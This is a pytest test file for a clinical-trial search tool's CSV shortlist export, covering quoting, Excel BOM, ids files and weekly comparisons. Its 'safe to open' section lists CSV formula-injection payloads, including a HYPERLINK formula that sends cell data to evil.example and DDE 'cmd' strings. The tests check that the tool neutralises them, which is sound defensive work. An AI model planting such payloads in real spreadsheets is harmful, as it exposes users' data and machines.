"""CSV shortlists: columns, quoting, injection safety, BOM, streaming to stdout, ids files,
comparison with a previous shortlist and the round trip. Every CSV is read back with csv."""

from __future__ import annotations

import contextlib
import csv
import io
import json
import os
import subprocess
import sys
from urllib.parse import urlencode

import pytest
from click.testing import CliRunner
from spec_check import check_request, needs_spec

from trialfinder import shortlist
from trialfinder.cli import cli
from trialfinder.model import parse_study
from trialfinder.pipeline import build_result, to_record
from trialfinder.records import trial_record
from trialfinder.shortlist import BOM, CSV_COLUMNS, TEXT_MARK, csv_line, neutralise, write_csv
from trialfinder.sources.ctgov import FIELDS_PARAM_WITHOUT_SITE_DETAILS

from conftest import load_real_record, needs_shared, real_record_paths
from factories import BOSTON_SITE, make_study
from fakeapi import FakeApi, field_paths, select_fields
from officekit import needs_soffice

DOCUMENTED_COLUMNS = [
    "nct_id",
    "title",
    "status",
    "status_text",
    "phases",
    "phase_text",
    "conditions",
    "categories",
    "setting",
    "biomarkers",
    "excluded_biomarkers",
    "interventions",
    "nearest_site",
    "nearest_city",
    "nearest_state",
    "nearest_country",
    "nearest_site_status",
    "nearest_contact_name",
    "nearest_contact_phone",
    "nearest_contact_email",
    "distance_mi",
    "sites_count",
    "min_age",
    "max_age",
    "sex",
    "sex_text",
    "central_contact_name",
    "central_contact_phone",
    "central_contact_email",
    "first_posted",
    "last_updated",
    "url",
    "summary",
    "evidence",
]


def read_csv(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text, newline="")))


def csv_text(records, **options) -> str:
    out = io.StringIO(newline="")
    write_csv(records, out, **options)
    return out.getvalue()


def record_of(**study) -> dict:
    return trial_record(parse_study(make_study(**study)))


def full_records(studies) -> list[dict]:
    """The records a search writes for ``studies``: tags, summary and all."""
    return [to_record(build_result(parse_study(s))) for s in studies]


def as_exported(study: dict) -> dict:
    """``study`` as an export without a place receives it: sites without their details."""
    return select_fields(study, field_paths(FIELDS_PARAM_WITHOUT_SITE_DETAILS))


def run(*args: str):
    return CliRunner().invoke(cli, list(args))


# -- columns and values -----------------------------------------------------------------------


def test_header_is_the_documented_columns_in_order():
    text = csv_text([record_of()])
    assert next(csv.reader(io.StringIO(text))) == DOCUMENTED_COLUMNS
    assert list(CSV_COLUMNS) == DOCUMENTED_COLUMNS


def test_values_come_from_the_record_with_lists_joined():
    record = record_of(
        phases=["PHASE1", "PHASE2"],
        conditions=["Multiple Myeloma", "Plasma Cell Leukemia"],
        interventions=[
            {"type": "DRUG", "name": "Teclistamab"},
            {"type": "DRUG", "name": "Daratumumab"},
        ],
        max_age="6 Months",
        central_contacts=[
            {"name": "Ana Núñez", "phone": "617-555-0100", "phoneExt": "12", "email": "a@x.org"},
            {"name": "Second Contact", "phone": "617-555-0199"},
        ],
        first_posted="2024-01-15",
        last_updated="2025-06-01",
    )
    (row,) = read_csv(csv_text([record]))
    assert row["phases"] == "PHASE1; PHASE2"
    assert row["conditions"] == "Multiple Myeloma; Plasma Cell Leukemia"
    assert row["interventions"] == "Teclistamab; Daratumumab"
    assert row["min_age"] == "18" and row["max_age"] == "0.5"
    assert row["sites_count"] == "1"
    assert row["central_contact_name"] == "Ana Núñez"
    assert row["central_contact_phone"] == "617-555-0100 ext. 12"
    assert row["central_contact_email"] == "a@x.org"
    assert row["first_posted"] == "2024-01-15" and row["last_updated"] == "2025-06-01"
    assert row["url"] == "https://clinicaltrials.gov/study/NCT01000001"
    # Features not computed for this record leave their cells empty.
    for column in ("categories", "nearest_site", "distance_mi", "summary", "evidence"):
        assert row[column] == ""


def test_record_keeps_central_contact_and_first_posted_for_json():
    record = record_of(central_contacts=[{"name": "Study Team", "phone": "1", "email": "e@x"}])
    assert record["first_posted"] == "2024-01-15"
    assert record["central_contact"]["name"] == "Study Team"
    assert json.loads(json.dumps(record)) == record
    assert record_of(central_contacts=[])["central_contact"] is None


def test_the_nearest_site_cell_is_its_name_as_people_read_it():
    # NCT06760702's "Uro-Science Centre, S.P. Medical College &amp; AG of Hospitals".
    site = {**BOSTON_SITE, "facility": "S.P. Medical College &amp; AG of Hospitals"}
    record = trial_record(parse_study(make_study()), {"nearest_site": site})
    (row,) = read_csv(csv_text([record]))
    assert row["nearest_site"] == "S.P. Medical College & AG of Hospitals"
    assert record["nearest_site"]["facility"] == "S.P. Medical College &amp; AG of Hospitals"


def test_annotations_fill_tag_location_summary_and_evidence_columns():
    trial = parse_study(make_study())
    record = trial_record(
        trial,
        {
            "categories": ["immunotherapy", "combination"],
            "setting": ["refractory"],
            "biomarkers": ["BCMA"],
            "evidence": [
                {"tag": "immunotherapy", "reason": "immunotherapy: a bispecific antibody"},
                {"tag": "refractory", "reason": "refractory: the title says refractory"},
            ],
            "nearest_site": {
                "facility": "Dana-Farber Cancer Institute",
                "city": "Boston",
                "state": "Massachusetts",
                "zip": "02215",
                "country": "United States",
                "status": "RECRUITING",
            },
            "distance_mi": 3.5,
            "summary": "A study of teclistamab.\nFor adults.",
        },
    )
    (row,) = read_csv(csv_text([record]))
    assert row["categories"] == "immunotherapy; combination"
    assert row["setting"] == "refractory" and row["biomarkers"] == "BCMA"
    assert row["nearest_site"] == "Dana-Farber Cancer Institute"
    assert (row["nearest_city"], row["nearest_state"], row["nearest_country"]) == (
        "Boston",
        "Massachusetts",
        "United States",
    )
    assert row["distance_mi"] == "3.5"
    assert row["summary"] == "A study of teclistamab.\nFor adults."
    assert row["evidence"] == (
        "immunotherapy: a bispecific antibody; refractory: the title says refractory"
    )


# -- opening cleanly --------------------------------------------------------------------------


def test_quotes_commas_newlines_and_accents_survive(tmp_path):
    title = 'Étude "BISPEC-1", phase 2;\nmyélome — ≥ 2 lines\r\nof therapy'
    studies = [make_study(title=title)]
    with FakeApi(studies) as api:
        result = run("--api-url", api.url, "search", "-o", str(tmp_path / "s.csv"))
    assert result.exit_code == 0, result.output
    raw = (tmp_path / "s.csv").read_bytes()
    assert not raw.startswith(BOM.encode())
    text = raw.decode("utf-8")
    assert text.endswith("\r\n")
    (row,) = read_csv(text)
    assert row["title"] == title
    # RFC 4180: every field quoted, inner quotes doubled.
    assert '"Étude ""BISPEC-1"", phase 2;' in text


AWKWARD_CELLS = [
    "",
    '"',
    '""',
    'say "hi"',
    "a,b",
    "line\nbreak",
    "carriage\rreturn",
    "crlf\r\nend",
    "nul\x00inside",
    "tab\tinside",
    " leading and trailing ",
    "Étude — ≥ 2 lines, 10 µg/m²",
    "\u2028line separator\u2029",
    "'already quoted",
    "\ufeffbom first",
    "x" * 5000 + '"',
]


def test_csv_lines_are_what_the_csv_module_writes_with_every_cell_quoted():
    rows = [AWKWARD_CELLS, AWKWARD_CELLS[::-1], [""], ["only"], AWKWARD_CELLS[3:7]]
    expected = io.StringIO(newline="")
    csv.writer(expected, lineterminator="\r\n", quoting=csv.QUOTE_ALL).writerows(rows)
    ours = "".join(csv_line(row) for row in rows)
    assert ours == expected.getvalue()
    assert list(csv.reader(io.StringIO(ours, newline=""))) == rows


def test_write_csv_gives_the_bytes_of_the_csv_module(tmp_path):
    """The whole shortlist, header and rows, against csv.writer given the same cells."""
    records = [
        record_of(title=title, nct_id=f"NCT0300000{n}")
        for n, title in enumerate(AWKWARD_CELLS[1:9])
    ]
    records.append(record_of(title='=HYPERLINK("x")', nct_id="NCT03000009"))
    text = csv_text(records)
    cells = list(csv.reader(io.StringIO(text, newline="")))
    expected = io.StringIO(newline="")
    csv.writer(expected, lineterminator="\r\n", quoting=csv.QUOTE_ALL).writerows(cells)
    assert text == expected.getvalue()
    assert [row[1] for row in cells[1:-1]] == [t.strip() for t in AWKWARD_CELLS[1:9]]
    assert cells[-1][1] == '\'=HYPERLINK("x")'


@pytest.mark.parametrize("first", [chr(c) for c in range(0x80)] + ["\u2060", "é", "＝"])
def test_neutralise_agrees_with_the_formula_rule_whatever_the_first_character(first):
    for text in (first, first + "=1+1", first + "SUM(1)", first + " -2"):
        assert neutralise(text) == ("'" + text if shortlist.formula_like(text) else text)
    assert neutralise("") == ""


def test_excel_option_writes_a_byte_order_mark(tmp_path):
    path = tmp_path / "excel.csv"
    with FakeApi([make_study(title="Myélome réfractaire")]) as api:
        result = run("--api-url", api.url, "search", "--excel", "-o", str(path))
        assert result.exit_code == 0, result.output
        stdout = run("--api-url", api.url, "search", "--excel")
    raw = path.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")
    with path.open(encoding="utf-8-sig", newline="") as handle:
        rows = list(csv.DictReader(handle))
    assert rows[0]["title"] == "Myélome réfractaire"
    assert stdout.stdout_bytes.startswith(b"\xef\xbb\xbf")


def test_excel_with_another_format_is_a_usage_error():
    result = run("search", "--excel", "--format", "json")
    assert result.exit_code == 2
    assert "--excel writes CSV" in result.stderr


# -- safe to open -----------------------------------------------------------------------------

HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "  =1+1",
    ";=1+1",
    ",@SUM(A1)",
    '"=1+1',
]


def formula_like(cell: str) -> bool:
    return cell.lstrip(' \n,;"').startswith(("=", "+", "-", "@", "\t", "\r"))


@pytest.mark.parametrize("hostile", HOSTILE)
def test_hostile_titles_and_contact_names_are_neutralised(hostile, tmp_path):
    study = make_study(
        title=hostile,
        central_contacts=[{"name": hostile, "phone": "+1 617-555-0100", "email": "=x@y.org"}],
        interventions=[{"type": "DRUG", "name": hostile}],
    )
    with FakeApi([study]) as api:
        result = run("--api-url", api.url, "search", "-o", str(tmp_path / "s.csv"))
    assert result.exit_code == 0, result.output
    (row,) = read_csv((tmp_path / "s.csv").read_text(encoding="utf-8"))
    for column in ("title", "central_contact_name", "interventions"):
        assert row[column] == "'" + hostile.strip()  # the model strips surrounding blanks
    assert row["central_contact_phone"] == "'+1 617-555-0100"
    assert row["central_contact_email"] == "'=x@y.org"
    assert not any(formula_like(cell) for cell in row.values())


@pytest.mark.parametrize("hostile", HOSTILE)
def test_hostile_record_values_are_neutralised_as_given(hostile):
    record = record_of()
    record.update(title=hostile, summary=hostile, central_contact={"name": hostile})
    record["evidence"] = [{"reason": hostile}]
    (row,) = read_csv(csv_text([record]))
    for column in ("title", "summary", "central_contact_name", "evidence"):
        assert row[column] == "'" + hostile


def test_numbers_in_numeric_columns_stay_numbers():
    record = record_of()
    record.update(distance_mi=-3.5, min_age=0.25, max_age=-1, sites_count=0)
    (row,) = read_csv(csv_text([record]))
    assert (row["distance_mi"], row["min_age"], row["max_age"], row["sites_count"]) == (
        "-3.5",
        "0.25",
        "-1",
        "0",
    )
    # A negative number in a text column, or text in a numeric column, is neutralised.
    record.update(title="-3.5", distance_mi="-1+cmd")
    (row,) = read_csv(csv_text([record]))
    assert row["title"] == "'-3.5" and row["distance_mi"] == "'-1+cmd"


def test_safe_text_is_left_alone():
    record = record_of(title="Phase 2 of drug X - a study; 50% respond = good")
    (row,) = read_csv(csv_text([record]))
    assert row["title"] == "Phase 2 of drug X - a study; 50% respond = good"


# -- streaming --------------------------------------------------------------------------------


def test_stdout_holds_nothing_but_the_csv():
    studies = [make_study(nct_id=f"NCT0100000{n}", title=f"Trial {n}") for n in range(1, 6)]
    with FakeApi(studies) as api:
        result = run("--api-url", api.url, "search", "--format", "csv")
    assert result.exit_code == 0, result.output
    stdout = result.stdout_bytes.decode("utf-8")  # .stdout would turn CRLF into LF
    rows = list(csv.reader(io.StringIO(stdout, newline="")))
    assert rows[0] == DOCUMENTED_COLUMNS
    assert [r[0] for r in rows[1:]] == [f"NCT0100000{n}" for n in range(1, 6)]
    assert all(len(r) == len(DOCUMENTED_COLUMNS) for r in rows)
    exported = [as_exported(s) for s in studies]
    assert stdout == csv_text(full_records(exported))  # byte for byte: nothing else mixed in
    assert "5 trials matched" in result.stderr


def test_write_csv_consumes_records_lazily():
    seen = []

    def records():
        for n in range(3):
            seen.append(n)
            yield record_of(nct_id=f"NCT0100000{n + 1}")

    out = io.StringIO()
    lines_when_pulled = []

    class Spy(io.StringIO):
        def write(self, text):
            lines_when_pulled.append(len(seen))
            return super().write(text)

    out = Spy()
    assert write_csv(records(), out) == 3
    # Each row is written before the next record is produced.
    assert lines_when_pulled[:4] == [0, 1, 2, 3]


# -- ids files --------------------------------------------------------------------------------


def studies_1_to(count: int, **overrides) -> list[dict]:
    return [
        make_study(nct_id=f"NCT{1000000 + n:08d}", title=f"Trial {n}", **overrides)
        for n in range(1, count + 1)
    ]


def test_ids_file_fetches_exactly_those_trials_in_one_query(tmp_path):
    ids_file = tmp_path / "ids.txt"
    ids_file.write_text(
        "# my shortlist\n\nNCT01000002\n  nct01000004   # seen in clinic\nNCT01000002\n"
        "NCT09999999\n",
        encoding="utf-8",
    )
    with FakeApi(studies_1_to(5)) as api:
        result = run("--api-url", api.url, "search", "--ids-file", str(ids_file), "--format", "csv")
        requests = api.studies_requests()
    assert result.exit_code == 0, result.output
    assert [r["nct_id"] for r in read_csv(result.stdout)] == ["NCT01000002", "NCT01000004"]
    (request,) = requests
    assert request.params["filter.ids"] == "NCT01000002|NCT01000004|NCT09999999"
    # The default status, setting and cancer restrictions would hide listed trials.
    for default_filter in ("filter.overallStatus", "query.term", "filter.advanced"):
        assert default_filter not in request.params
    missing = [line for line in result.stderr.splitlines() if "not found" in line]
    assert missing == ["trialfinder: 1 NCT id not found with this search's options: NCT09999999"]


def test_ids_file_keeps_filters_the_user_asked_for(tmp_path):
    ids_file = tmp_path / "ids.txt"
    ids_file.write_text("NCT01000001\n", encoding="utf-8")
    with FakeApi(studies_1_to(1)) as api:
        result = run(
            "--api-url",
            api.url,
            "search",
            "--ids-file",
            str(ids_file),
            "--status",
            "recruiting",
            "--phase",
            "2",
            "--format",
            "csv",
        )
        (request,) = api.studies_requests()
    assert result.exit_code == 0, result.output
    assert request.params["filter.overallStatus"] == "RECRUITING"
    assert request.params["filter.advanced"] == "(AREA[Phase]PHASE2)"


def test_malformed_id_is_a_usage_error_naming_the_line(tmp_path):
    ids_file = tmp_path / "ids.txt"
    ids_file.write_text("NCT01000001\n# fine\nNCT-12\n", encoding="utf-8")
    result = run("search", "--ids-file", str(ids_file))
    assert result.exit_code == 2
    assert f"{ids_file}, line 3: 'NCT-12' is not an NCT id" in result.stderr
    assert "Traceback" not in result.output


def test_empty_ids_file_is_a_usage_error(tmp_path):
    ids_file = tmp_path / "ids.txt"
    ids_file.write_text("# nothing yet\n\n", encoding="utf-8")
    result = run("search", "--ids-file", str(ids_file))
    assert result.exit_code == 2
    assert "lists no NCT ids" in result.stderr


def test_more_than_a_query_of_ids_is_paged(tmp_path, monkeypatch):
    from trialfinder.sources import ctgov

    monkeypatch.setattr(ctgov, "MAX_IDS_PER_QUERY", 2)
    ids_file = tmp_path / "ids.txt"
    ids_file.write_text(
        "\n".join(f"NCT{1000000 + n:08d}" for n in (1, 2, 3, 4, 5, 9)), encoding="utf-8"
    )
    with FakeApi(studies_1_to(5)) as api:
        result = run("--api-url", api.url, "search", "--ids-file", str(ids_file), "--format", "csv")
        requests = api.studies_requests()
    assert result.exit_code == 0, result.output
    assert [r.params["filter.ids"] for r in requests] == [
        "NCT01000001|NCT01000002",
        "NCT01000003|NCT01000004",
        "NCT01000005|NCT01000009",
    ]
    assert len(read_csv(result.stdout)) == 5
    assert "5 trials matched; 5 shown." in result.stderr
    assert "1 NCT id not found with this search's options: NCT01000009" in result.stderr


def test_a_failure_after_the_first_query_of_ids_does_not_say_the_list_was_whole(
    tmp_path, monkeypatch
):
    # 2,500 ids, the second query failing, said "1,000 of 1,000 trials fetched"
    from trialfinder.sources import ctgov

    monkeypatch.setattr(ctgov, "MAX_IDS_PER_QUERY", 2)
    ids_file = tmp_path / "ids.txt"
    ids_file.write_text("\n".join(f"NCT{1000000 + n:08d}" for n in range(1, 6)), encoding="utf-8")
    with FakeApi(studies_1_to(5)) as api:
        api.fail("/studies", status=400, body="bad request", after_pages=1)
        result = run("--api-url", api.url, "search", "--ids-file", str(ids_file), "--format", "csv")
    assert result.exit_code == 5, result.output  # partial results
    assert "results are incomplete: 2 trials fetched, then" in result.stderr
    assert "2 of 2" not in result.stderr
    # nor "of" the limit ("1,000 of 3,000 trials fetched" with --limit 3000)
    with FakeApi(studies_1_to(5)) as api:
        api.fail("/studies", status=400, body="bad request", after_pages=1)
        args = ("--api-url", api.url, "search", "--ids-file", str(ids_file), "--limit", "10")
        result = run(*args, "--format", "csv")
    assert "results are incomplete: 2 trials fetched, then" in result.stderr


@needs_spec
def test_a_thousand_and_one_ids_take_two_valid_queries(tmp_path):
    ids = [f"NCT{2000000 + n:08d}" for n in range(1001)]
    ids_file = tmp_path / "ids.txt"
    ids_file.write_text("\n".join(ids), encoding="utf-8")
    studies = [make_study(nct_id=ids[0]), make_study(nct_id=ids[-1])]
    with FakeApi(studies) as api:
        result = run(
            "--api-url",
            api.url,
            "search",
            "--ids-file",
            str(ids_file),
            "-o",
            str(tmp_path / "x.csv"),
        )
        requests = api.studies_requests()
    assert result.exit_code == 0, result.output
    assert [len(r.params["filter.ids"].split("|")) for r in requests] == [1000, 1]
    for request in requests:
        check_request(f"{api.url}/studies?{urlencode(request.params)}")
    assert "999 NCT ids not found" in result.stderr


# -- the round trip and comparisons -----------------------------------------------------------


def test_round_trip_shortlist_read_back_gives_the_same_rows(tmp_path):
    first, second = tmp_path / "week1.csv", tmp_path / "week1-again.csv"
    hostile = make_study(
        nct_id="NCT01000009",
        title='=cmd "quoted", with\nnewline',
        central_contacts=[{"name": "@someone", "phone": "+1 555", "email": "x@y"}],
    )
    with FakeApi([*studies_1_to(4), hostile]) as api:
        result = run("--api-url", api.url, "search", "--limit", "3", "-o", str(first))
        assert result.exit_code == 0, result.output
        # Only the shortlisted trials come back, not every trial the server has.
        result = run(
            "--api-url", api.url, "search", "--ids-file", str(first), "--excel", "-o", str(second)
        )
        assert result.exit_code == 0, result.output
    written = read_csv(first.read_text(encoding="utf-8"))
    assert [r["nct_id"] for r in written] == ["NCT01000001", "NCT01000002", "NCT01000003"]
    assert read_csv(second.read_text(encoding="utf-8-sig")) == written
    assert "not found" not in result.stderr


def test_round_trip_keeps_hostile_cells_identical(tmp_path):
    first, second = tmp_path / "a.csv", tmp_path / "b.csv"
    hostile = make_study(
        nct_id="NCT01000009",
        title='=cmd "quoted", with\nnewline',
        central_contacts=[{"name": "@someone", "phone": "+1 555", "email": "x@y"}],
    )
    with FakeApi([hostile]) as api:
        assert run("--api-url", api.url, "search", "-o", str(first)).exit_code == 0
        result = run("--api-url", api.url, "search", "--ids-file", str(first), "-o", str(second))
    assert result.exit_code == 0, result.output
    assert second.read_bytes() == first.read_bytes()


def test_compare_marks_new_updated_unchanged_and_dropped(tmp_path):
    old_path, new_path = tmp_path / "old.csv", tmp_path / "new.csv"
    before = [
        make_study(nct_id="NCT01000001", status="NOT_YET_RECRUITING", last_updated="2025-05-01"),
        make_study(nct_id="NCT01000002", last_updated="2025-05-01"),
        make_study(nct_id="NCT01000003", title="Gone next week", last_updated="2025-05-01"),
    ]
    after = [
        make_study(nct_id="NCT01000001", status="RECRUITING", last_updated="2025-06-01"),
        make_study(nct_id="NCT01000002", last_updated="2025-05-01"),
        make_study(nct_id="NCT01000004", last_updated="2025-06-01"),
    ]
    with FakeApi(before) as api:
        assert run("--api-url", api.url, "search", "-o", str(old_path)).exit_code == 0
    with FakeApi(after) as api:
        result = run(
            "--api-url", api.url, "search", "--compare", str(old_path), "-o", str(new_path)
        )
    assert result.exit_code == 0, result.output
    text = new_path.read_text(encoding="utf-8")
    assert next(csv.reader(io.StringIO(text))) == ["change", *DOCUMENTED_COLUMNS]
    rows = read_csv(text)
    assert [(r["change"], r["nct_id"]) for r in rows] == [
        ("updated: status Not yet recruiting -> Recruiting", "NCT01000001"),
        ("unchanged", "NCT01000002"),
        ("new", "NCT01000004"),
        ("dropped: no longer in the results", "NCT01000003"),
    ]
    dropped = rows[-1]
    old_row = next(r for r in read_csv(old_path.read_text("utf-8")) if r["nct_id"] == "NCT01000003")
    assert {k: v for k, v in dropped.items() if k != "change"} == old_row
    assert "3 trials matched the registry search; 3 shown after the local filters." in result.stderr


def test_a_trial_whose_record_cannot_be_read_keeps_its_row_and_its_notes(tmp_path):
    # A record the search had to skip was "dropped: no longer in the results", then "new" the
    # week after, with the navigator's notes gone.
    week1, week2, week3 = (tmp_path / f"week{n}.csv" for n in (1, 2, 3))
    studies = [make_study(nct_id=f"NCT0100000{n}", last_updated="2025-05-01") for n in (1, 2)]
    with FakeApi(studies) as api:
        assert run("--api-url", api.url, "search", "-o", str(week1)).exit_code == 0
    rows = read_csv(week1.read_text("utf-8"))
    with week1.open("w", encoding="utf-8", newline="") as out:
        writer = csv.DictWriter(out, [*rows[0], "notes"])
        writer.writeheader()
        writer.writerows({**row, "notes": f"called {row['nct_id'][-1]}/12"} for row in rows)
    broken = make_study(nct_id="NCT01000002", last_updated="2025-05-01")
    broken["protocolSection"]["conditionsModule"]["conditions"] = "Myeloma"  # not a list
    with FakeApi([studies[0], broken]) as api:
        result = run("--api-url", api.url, "search", "--compare", str(week1), "-o", str(week2))
    assert result.exit_code == 0, result.output
    assert [(r["change"], r["nct_id"], r["notes"]) for r in read_csv(week2.read_text("utf-8"))] == [
        ("unchanged", "NCT01000001", "called 1/12"),
        (
            "not read: the registry's record could not be read this time; the row is as before",
            "NCT01000002",
            "called 2/12",
        ),
    ]
    with FakeApi(studies) as api:
        result = run("--api-url", api.url, "search", "--compare", str(week2), "-o", str(week3))
    assert result.exit_code == 0, result.output
    assert [(r["change"], r["nct_id"], r["notes"]) for r in read_csv(week3.read_text("utf-8"))] == [
        ("unchanged", "NCT01000001", "called 1/12"),
        ("unchanged", "NCT01000002", "called 2/12"),
    ]


def _first_week(tmp_path):
    """Trials NCT01000001 and NCT01000002 as a first week's shortlist, and the next week's path."""
    week1, week2 = tmp_path / "week1.csv", tmp_path / "week2.csv"
    studies = [make_study(nct_id=f"NCT0100000{n}", last_updated="2025-05-01") for n in (1, 2)]
    with FakeApi(studies) as api:
        assert run("--api-url", api.url, "search", "-o", str(week1)).exit_code == 0
    return studies, week1, week2


def test_a_record_whose_id_cannot_be_read_is_not_taken_for_a_trial_that_left(tmp_path):
    # The id itself unreadable (its identification of the wrong kind): the row said "dropped",
    # and --ids-file said the trial was "not found" (with "use --limit 0 to see all")
    studies, week1, week2 = _first_week(tmp_path)
    broken = make_study(nct_id="NCT01000002", last_updated="2025-05-01")
    broken["protocolSection"]["identificationModule"] = "broken"
    with FakeApi([studies[0], broken]) as api:
        args = ("--api-url", api.url, "search", "--compare", str(week1), "-o", str(week2))
        result = run(*args)
        ids = run("--api-url", api.url, "search", "--ids-file", str(week1), "--format", "csv")
    assert result.exit_code == 0, result.output
    rows = read_csv(week2.read_text("utf-8"))
    assert [(r["change"].split(":")[0], r["nct_id"]) for r in rows] == [
        ("unchanged", "NCT01000001"),
        ("not read", "NCT01000002"),
    ]
    assert "not found" not in ids.stderr
    assert "--limit 0" not in ids.stderr


def test_a_trial_that_left_is_dropped_beside_an_unread_record_of_another_trial(tmp_path):
    # Another trial's record unreadable (its id read) made every trial not found "not read",
    # hiding one that had left the registry, week after week
    studies, week1, week2 = _first_week(tmp_path)
    other = make_study(nct_id="NCT01000003", last_updated="2025-05-01")
    other["protocolSection"]["conditionsModule"]["conditions"] = "Myeloma"  # not a list
    with FakeApi([studies[0], other]) as api:
        args = ("--api-url", api.url, "search", "--compare", str(week1), "-o", str(week2))
        assert run(*args).exit_code == 0
    rows = read_csv(week2.read_text("utf-8"))
    assert [(r["change"], r["nct_id"]) for r in rows] == [
        ("unchanged", "NCT01000001"),
        ("dropped: no longer in the results", "NCT01000002"),
    ]


@pytest.mark.parametrize(("delimiter", "bom"), [(";", BOM), ("\t", ""), (",", BOM)])
def test_a_comparison_is_written_as_the_compared_file_was(tmp_path, delimiter, bom):
    # A shortlist a spreadsheet saved with semicolons, compared in place, came back with
    # commas: the spreadsheet that saved it then showed each row in one cell.
    studies, week1, _ = _first_week(tmp_path)
    rows = list(csv.reader(io.StringIO(week1.read_text("utf-8-sig"), newline="")))
    rows[0].append("notes")
    for row in rows[1:]:
        row.append(f"called; {row[0][-1]}/12")
    saved = io.StringIO(newline="")
    csv.writer(saved, delimiter=delimiter).writerows(rows)
    week1.write_bytes((bom + saved.getvalue()).encode())
    with FakeApi(studies) as api:
        args = ("--api-url", api.url, "search", "--compare", str(week1), "-o", str(week1))
        assert run(*args).exit_code == 0
    written = week1.read_text("utf-8")
    assert written.startswith(bom + '"change"' + delimiter + '"nct_id"')
    again = list(
        csv.DictReader(io.StringIO(written.removeprefix(BOM), newline=""), delimiter=delimiter)
    )
    assert [(r["change"], r["nct_id"], r["notes"]) for r in again] == [
        ("unchanged", "NCT01000001", "called; 1/12"),
        ("unchanged", "NCT01000002", "called; 2/12"),
    ]


def test_an_empty_answer_keeps_every_row_to_be_compared_again(tmp_path):
    # A broken mirror answering with no trial at all: every row became "dropped", and the next
    # run by --ids-file of the same file said it "lists no NCT ids"
    studies, week1, week2 = _first_week(tmp_path)
    with FakeApi([]) as api:
        args = ("--api-url", api.url, "search", "--ids-file", str(week1), "--compare", str(week1))
        result = run(*args, "-o", str(week2))
    assert result.exit_code == 0, result.output
    rows = read_csv(week2.read_text("utf-8"))
    assert [(r["change"].split(":")[0], r["nct_id"]) for r in rows] == [
        ("not checked", "NCT01000001"),
        ("not checked", "NCT01000002"),
    ]
    assert "could not ask why 2 trials left the results" in result.stderr
    assert shortlist.read_ids(week2) == ["NCT01000001", "NCT01000002"]


def test_compare_against_itself_is_all_unchanged_and_a_compared_list_reads_back(tmp_path):
    first, compared, again = tmp_path / "a.csv", tmp_path / "b.csv", tmp_path / "c.csv"
    with FakeApi(studies_1_to(3)) as api:
        assert run("--api-url", api.url, "search", "-o", str(first)).exit_code == 0
        args = ("--api-url", api.url, "search", "--ids-file", str(first))
        assert run(*args, "--compare", str(first), "-o", str(compared)).exit_code == 0
        api.studies = api.studies[:2]
        result = run(
            "--api-url",
            api.url,
            "search",
            "--ids-file",
            str(compared),
            "--compare",
            str(compared),
            "-o",
            str(again),
        )
    assert result.exit_code == 0, result.output
    assert {r["change"] for r in read_csv(compared.read_text("utf-8"))} == {"unchanged"}
    rows = read_csv(again.read_text("utf-8"))
    assert [(r["change"], r["nct_id"]) for r in rows] == [
        ("unchanged", "NCT01000001"),
        ("unchanged", "NCT01000002"),
        ("dropped: no longer in the results", "NCT01000003"),
    ]
    assert "1 NCT id not found with this search's options: NCT01000003" in result.stderr


def test_compare_with_a_file_that_is_not_a_shortlist_is_a_usage_error(tmp_path):
    path = tmp_path / "notes.csv"
    path.write_text("name,phone\nAna,1\n", encoding="utf-8")
    result = run("search", "--compare", str(path))
    assert result.exit_code == 2
    assert "is not a trialfinder shortlist" in result.stderr


def test_compare_with_json_output_is_a_usage_error(tmp_path):
    path = tmp_path / "old.csv"
    path.write_text("nct_id\nNCT01000001\n", encoding="utf-8")
    result = run("search", "--compare", str(path), "--format", "json")
    assert result.exit_code == 2
    assert "--compare writes CSV" in result.stderr


# -- the shortlist library --------------------------------------------------------------------


def test_change_says_what_moved_where_the_old_row_shows_it():
    from trialfinder.shortlist import change_of

    old = {
        "status": "RECRUITING",
        "phases": "PHASE1",
        "nearest_site": "Site A",
        "nearest_city": "Boston",
        "nearest_state": "Massachusetts",
        "last_updated": "2025-05-01",
    }
    new = {
        **old,
        "status": "ACTIVE_NOT_RECRUITING",
        "phases": "PHASE1; PHASE2",
        "nearest_site": "Site B",
        "nearest_city": "Worcester",
        "last_updated": "2025-06-01",
    }
    assert change_of(new, old) == (
        "updated: status Recruiting -> Active not recruiting; phase Phase 1 -> Phase 1/2; "
        "nearest site Site A (Boston, Massachusetts) -> Site B (Worcester, Massachusetts)"
    )
    # Nothing the old row shows changed: say that the date moved.
    assert change_of({**old, "last_updated": "2025-06-01"}, old) == (
        "updated: last updated 2025-05-01 -> 2025-06-01"
    )
    # The old row did not show a nearest site (no --near then): not a change of the trial.
    assert (
        change_of(
            {**new, "status": "RECRUITING", "phases": "PHASE1"},
            {
                **old,
                "nearest_site": "",
            },
        )
        == "updated: last updated 2025-05-01 -> 2025-06-01"
    )
    assert change_of(new, None) == "new"
    assert change_of(old, dict(old)) == "unchanged"


def test_read_ids_from_a_compared_excel_shortlist_skips_dropped_rows(tmp_path):
    from trialfinder.shortlist import read_ids, read_shortlist

    path = tmp_path / "compared.csv"
    rows = [
        ["change", "nct_id", "title", "last_updated"],
        ["new", "NCT01000002", "Two,\nlines", "2025-06-01"],
        ["unchanged", "nct01000001", "One", "2025-05-01"],
        [
            "dropped: no longer recruiting (status Recruiting -> Completed)",
            "NCT01000003",
            "Three",
            "2025-05-01",
        ],
    ]
    with path.open("w", encoding="utf-8-sig", newline="") as handle:
        csv.writer(handle).writerows(rows)
    assert read_ids(path) == ["NCT01000002", "NCT01000001"]
    shortlist = read_shortlist(path)
    assert list(shortlist) == ["NCT01000002", "NCT01000001"]
    assert shortlist["NCT01000002"]["title"] == "Two,\nlines"
    assert shortlist["NCT01000001"]["status"] == ""  # a column the old file lacked


def test_bad_id_inside_a_shortlist_names_its_line(tmp_path):
    from trialfinder.errors import InvalidInput
    from trialfinder.shortlist import read_ids

    path = tmp_path / "old.csv"
    path.write_text('nct_id,title\nNCT01000001,"two\nlines"\nNCT0X,bad\n', encoding="utf-8")
    with pytest.raises(InvalidInput, match=r"line 4: 'NCT0X' is not an NCT id"):
        read_ids(path)


def test_file_that_is_not_utf8_is_a_usage_error(tmp_path):
    path = tmp_path / "ids.txt"
    path.write_bytes("NCT01000001 # é\n".encode("latin-1"))
    result = run("search", "--ids-file", str(path))
